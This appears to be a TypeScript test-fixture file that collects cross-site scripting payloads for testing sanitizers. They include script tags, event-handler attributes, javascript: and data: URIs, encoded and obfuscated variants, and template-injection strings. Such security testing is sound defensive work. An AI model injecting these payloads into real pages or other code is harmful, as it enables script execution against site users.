import { existsSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';

/** Run by themselves, or at an event that `provoke` gives, in a page that takes them for HTML: the controls prove it. */
export const running: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '</title></textarea></style><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  `'"><img src=x onerror="alert(1)">`,
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<body onload=alert(1)>',
  '<b onmouseover=alert(1)>a</b>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  '</script><script>alert(1)</script>',
  ']]></title><script>alert(1)</script>',
  '\u202e<script>alert(1)</script>',
];

/** One of each kind, for a clone without the long list. */
const own = [
  ...running,
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">a</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="java&#x09;script:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<form action="javascript:alert(1)"><button>a</button></form>',
  '<button formaction="javascript:alert(1)" form="x">a</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://outside.example/">',
  '<link rel="stylesheet" href="https://outside.example/a.css">',
  '<style>@import "https://outside.example/a.css";</style>',
  '<div style="background:url(https://outside.example/a.png)">a</div>',
  '<x onclick=alert(1) tabindex=1>a</x>',
  '<template><img src=x onerror=alert(1)></template>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '//outside.example/a.js',
  '\\\\outside.example\\a.js',
  '"onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '`-alert(1)-`',
  '{{constructor.constructor("alert(1)")()}}',
  // Text, and no template: what some engines fill in.
  ['$', '{alert(1)}'].join(''),
  '[a](javascript:alert(1))',
  '![a](x" onerror="alert(1))',
  '<javascript:alert(1)>',
  '<a id=location name=location href=x>a</a>',
  '<img name=getElementById><form id=body>',
  '\0<scr\0ipt>alert(1)</script>',
];

const file = resolve('../shared/payloads/xss.txt');

/** Whether the long list is there: 8,348 known payloads, one a line. */
export const hasLongList: boolean = existsSync(file);

/** Strings that run in a page that takes them for HTML, an attribute or an address: the long list where there is one, and our own. */
export const payloads: readonly string[] = [
  ...(hasLongList
    ? readFileSync(file, 'utf8')
        .split('\n')
        .filter((line) => line !== '')
    : []),
  ...own,
];

/** What tells kinds of payload apart: elements, attributes and handlers, schemes of addresses, escapes, characters beyond ASCII. */
const trait = /<[\s/!?]*[a-z][\w:-]*|[a-z-]+(?=\s*=)|[a-z]+script:|data:|&#?\w+;|%[\da-f]{2}|\\[ux]|[^\t\x20-\x7e]/g;

/** Our own, and of the long list each payload that has a trait which none before it has. */
export const kindsOfPayload: readonly string[] = (() => {
  const known = new Set<string>();
  return [...own, ...payloads].filter((payload, index) => {
    const before = known.size;
    for (const [found] of payload.toLowerCase().matchAll(trait)) known.add(found);
    return index < own.length || known.size > before;
  });
})();
